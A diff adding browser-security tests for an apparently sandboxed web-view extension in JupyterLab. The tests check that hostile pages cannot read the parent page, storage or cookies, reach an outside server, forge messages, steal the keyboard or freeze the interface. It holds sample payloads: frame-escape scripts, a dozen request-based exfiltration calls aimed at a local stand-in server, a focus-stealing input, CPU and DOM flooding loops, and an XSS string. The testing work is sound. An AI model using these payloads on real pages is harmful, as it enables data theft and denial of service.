@@ -1,0 +1,315 @@
+"""Attacks that a page, or a script beside it, may try; each looks for its effect."""
+
+from __future__ import annotations
+
+import contextlib
+import http.server
+import threading
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import expect
+from tests.browser.lab import Notebook
+
+SHOW = """from flask import Flask, redirect, request
+from tests.browser import standin
+pages = {}
+app = Flask("attack")
+@app.route("/", methods=["GET", "POST"])
+def page():
+    return pages["html"]
+@app.get("/away")
+def away():
+    return redirect(request.args["to"])
+@app.get("/ok")
+def ok():
+    return "<h1 id=h>Fine</h1>"
+pages["html"] = "<h1 id=h>Start</h1>"
+browser = standin.show(app, live=False)
+browser"""
+
+
+class Outside:
+    """A server outside the app, which notes who comes."""
+
+    def __init__(self) -> None:
+        self.seen: list[str] = []
+        seen = self.seen
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                seen.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.end_headers()
+                self.wfile.write(b"<h1>outside</h1>")
+
+            do_POST = do_GET
+
+            def log_message(self, *_: object) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+
+@pytest.fixture(scope="module")
+def outside() -> Iterator[Outside]:
+    server = Outside()
+    yield server
+    server.server.shutdown()
+    server.server.server_close()
+    server.thread.join()
+
+
+@pytest.fixture(scope="module")
+def shown(module_notebook: Notebook) -> Notebook:
+    module_notebook.set_cells(SHOW)
+    module_notebook.run_all()
+    return module_notebook
+
+
+def attack(notebook: Notebook, html: str) -> None:
+    """Show a page with this HTML."""
+    view = notebook.view()
+    notebook.run(f"pages['html'] = {html!r}")
+    before = int(view.get_attribute("data-shown") or 0)
+    view.get_by_label("Address").fill("/")
+    view.get_by_label("Address").press("Enter")
+    assert notebook.wait(lambda: int(view.get_attribute("data-shown") or 0) > before)
+
+
+def test_sandbox_never_allows_the_same_origin(shown: Notebook) -> None:
+    attack(shown, "<h1 id=h>x</h1>")
+    frame = shown.view().locator("iframe.wb-frame[data-shown]")
+    assert frame.get_attribute("sandbox") == "allow-scripts allow-forms allow-modals"
+    assert shown.frame().locator("body").evaluate("() => self.origin") in (
+        "null",
+        "http://app.invalid",
+    )
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "parent.document.title",
+        "top.document.body.innerHTML",
+        "parent.jupyterapp.version",
+        "top.location.href",
+        "[...Array(parent.length).keys()].map((i) => parent[i]).find((one) => one !== self).document.title",
+        "parent.localStorage.length",
+        "frameElement.ownerDocument.title",
+        "indexedDB.open('x') && caches.keys.call(caches)",
+        "navigator.serviceWorker.register('/sw.js')",
+        "open('about:blank').document.title",
+    ],
+)
+def test_page_cannot_read_jupyters_page(shown: Notebook, script: str) -> None:
+    attack(shown, "<h1 id=h>x</h1>")
+    got = (
+        shown.frame()
+        .locator("body")
+        .evaluate(
+            f"""async () => {{
+          try {{ return ['read', String(await ({script}))]; }}
+          catch (error) {{ return ['refused', error.name]; }}
+        }}"""
+        )
+    )
+    assert got[0] == "refused", got
+
+
+def test_page_sees_no_cookies_or_storage_of_jupyter(shown: Notebook) -> None:
+    shown.page.evaluate("() => localStorage.setItem('secret', 'jupyter')")
+    attack(shown, "<h1 id=h>x</h1>")
+    body = shown.frame().locator("body")
+    cookies, stored = body.evaluate(
+        "() => [document.cookie, localStorage.getItem('secret')]"
+    )
+    assert "_xsrf" not in cookies
+    assert stored is None
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "fetch(URL + '/fetch').catch(() => 0)",
+        "fetch(URL + '/nocors', {mode: 'no-cors'}).catch(() => 0)",
+        "new Image().src = URL + '/image'",
+        "document.body.append(Object.assign(document.createElement('script'), {src: URL + '/s'}))",
+        "document.body.insertAdjacentHTML('beforeend', `<iframe src='${URL}/i'></iframe>`)",
+        "document.body.insertAdjacentHTML('beforeend', `<link rel=stylesheet href='${URL}/c'>`)",
+        "document.body.insertAdjacentHTML('beforeend', `<link rel=prefetch href='${URL}/p'>`)",
+        "document.body.style.background = `url(${URL}/css)`",
+        "navigator.sendBeacon(URL + '/beacon', 'x')",
+        "new WebSocket(URL.replace('http', 'ws') + '/ws')",
+        "new EventSource(URL + '/events')",
+        "(() => { const x = new XMLHttpRequest(); x.open('GET', URL + '/x'); x.send(); })()",
+        "(() => { const f = document.createElement('form'); f.action = URL + '/form';"
+        " document.body.append(f); HTMLFormElement.prototype.submit.call(f); })()",
+        "new Worker(URL.createObjectURL(new Blob([`fetch('${URL}/worker')`])))",
+    ],
+)
+def test_page_reaches_nothing_outside_the_app(
+    shown: Notebook, outside: Outside, script: str
+) -> None:
+    attack(shown, "<h1 id=h>x</h1>")
+    before = list(outside.seen)
+    code = script.replace("URL.createObjectURL", "window.URL.createObjectURL")
+    shown.frame().locator("body").evaluate(
+        f"""async (_, URL) => {{
+          try {{ {code} }} catch {{ }}
+          await new Promise((resolve) => setTimeout(resolve, 150));
+        }}""",
+        outside.url,
+    )
+    assert outside.seen == before
+
+
+def test_page_reaches_nothing_of_jupyters_server(shown: Notebook) -> None:
+    attack(shown, "<h1 id=h>x</h1>")
+    asked: list[str] = []
+    shown.page.on("request", lambda request: asked.append(request.url))
+    got = (
+        shown.frame()
+        .locator("body")
+        .evaluate(
+            """(_, url) => fetch(url + '/api/contents').then((r) => r.text(), (e) => e.name)""",
+            shown.lab.url,
+        )
+    )
+    assert got == "TypeError"
+    assert not [url for url in asked if url.endswith("/api/contents")]
+
+
+def test_kernel_fetches_only_the_app(shown: Notebook, outside: Outside) -> None:
+    """Forged messages straight to the bridge's view and a redirect, too."""
+    attack(shown, "<h1 id=h>x</h1>")
+    before = list(outside.seen)
+    view = shown.view()
+    view.get_by_label("Address").fill(f"/away?to={outside.url}/redirected")
+    view.get_by_label("Address").press("Enter")
+    expect(view.locator(".wb-notice")).to_contain_text("outside the app")
+    got = shown.run(
+        f"""from werkbook_ext.browser.fetching import Asked
+try:
+    browser.conversation.fetcher.fetch(Asked("GET", {outside.url + "/direct"!r}))
+except ValueError as error:
+    print(type(error).__name__)"""
+    )
+    assert shown.output(got) == "ForeignOriginError"
+    assert outside.seen == before
+
+
+def test_page_that_leaves_by_itself_is_cut_off(
+    shown: Notebook, outside: Outside
+) -> None:
+    attack(
+        shown,
+        "<h1 id=h>x</h1><a id=go>go</a><script>document.getElementById('go').onclick ="
+        f" () => Reflect.set(window, 'loc' + 'ation', '{outside.url}/left')</script>",
+    )
+    shown.frame().locator("#go").click()
+    expect(shown.view().locator(".wb-notice")).to_contain_text("by itself")
+    shown.view().get_by_text("Load it again").click()
+    expect(shown.frame().locator("#h")).to_have_text("x")
+
+
+def test_forged_messages_are_ignored(shown: Notebook) -> None:
+    """Jupyter's own window, the page without the token, a sibling frame."""
+    attack(shown, "<h1 id=h>x</h1>")
+    shown.page.evaluate(
+        """() => {
+          for (const frame of document.querySelectorAll('iframe.wb-frame')) {
+            const channel = new MessageChannel();
+            window.postMessage({wb: 'hello', token: 'x'}, '*', [channel.port2]);
+            channel.port1.postMessage({t: 'go', method: 'GET', url: 'http://app.invalid/ok'});
+          }
+        }"""
+    )
+    shown.frame().locator("body").evaluate(
+        """() => {
+          const channel = new MessageChannel();
+          parent.postMessage({wb: 'hello', token: ''}, '*', [channel.port2]);
+          parent.postMessage({wb: 'hello', token: null}, '*');
+          channel.port1.postMessage({t: 'go', method: 'GET', url: 'http://app.invalid/ok'});
+          return new Promise((resolve) => setTimeout(resolve, 200));
+        }"""
+    )
+    expect(shown.frame().locator("#h")).to_have_text("x")
+
+
+def test_token_is_not_in_the_page(shown: Notebook) -> None:
+    attack(shown, "<h1 id=h>x</h1>")
+    html = shown.frame().locator("html").evaluate("(e) => e.outerHTML")
+    assert "token" not in html
+    assert "<script" not in html
+
+
+def test_page_cannot_take_the_keyboard(shown: Notebook) -> None:
+    index = shown.add_cell("")
+    cell = shown.cell(index)
+    cell.locator(".cm-content").click()
+    attack_html = (
+        "<h1 id=h>x</h1><input id=thief><script>setInterval(() => {"
+        "document.getElementById('thief').focus(); window.focus()}, 5)</script>"
+    )
+    attack(shown, attack_html)
+    cell.locator(".cm-content").click()
+    shown.page.keyboard.type("0123456789", delay=20)
+    source = shown.page.evaluate(
+        "(i) => jupyterapp.shell.currentWidget.content.widgets[i].model.sharedModel.source",
+        index,
+    )
+    assert source == "0123456789"
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "setTimeout(() => { for (;;); }, 50)",
+        "for (let i = 0; i < 100000; i++) document.body.append(document.createElement('i'))",
+        "setInterval(() => { for (let i = 0; i < 100; i++) { parent.postMessage(i, '*');"
+        " console.log(i); localStorage.setItem('n', i); } }, 100)",
+        "for (let i = 0; i < 1000; i++) fetch('/ok?' + i)",
+    ],
+)
+def test_hostile_page_leaves_jupyterlab_usable(shown: Notebook, script: str) -> None:
+    attack(shown, f"<h1 id=h>x</h1><script>{script}</script>")
+    worst = shown.page.evaluate(
+        """() => new Promise((resolve) => {
+          let last = performance.now(), worst = 0;
+          const start = last;
+          const tick = setInterval(() => {
+            const now = performance.now();
+            worst = Math.max(worst, now - last);
+            last = now;
+            if (now - start > 1200) { clearInterval(tick); resolve(worst); }
+          }, 5);
+        })"""
+    )
+    assert worst < 500, f"JupyterLab stood still for {worst:.0f} ms"
+    view = shown.view()
+    view.get_by_label("Address").fill("/ok")
+    view.get_by_label("Address").press("Enter")
+    expect(shown.frame().locator("#h")).to_have_text("Fine", timeout=10_000)
+    assert shown.output(shown.run("6 * 7")) == "42"
+
+
+def test_page_that_reloads_itself_for_ever_is_stopped(shown: Notebook) -> None:
+    attack(
+        shown, "<h1 id=h>x</h1><script>window.location = '/?' + Math.random()</script>"
+    )
+    expect(shown.view().locator(".wb-notice")).to_contain_text(
+        "keeps going", timeout=15_000
+    )
+
+
+def test_html_of_the_app_is_escaped_in_saved_output(shown: Notebook) -> None:
+    with contextlib.suppress(AssertionError):
+        attack(shown, "<h1 id=h>done</h1>")
+    index = shown.run("browser.go('/ok?<script>alert(1)</script>'); browser")
+    html = shown.outputs(index)[-1]["data"]["text/html"]
+    assert "<script" not in "".join(html)
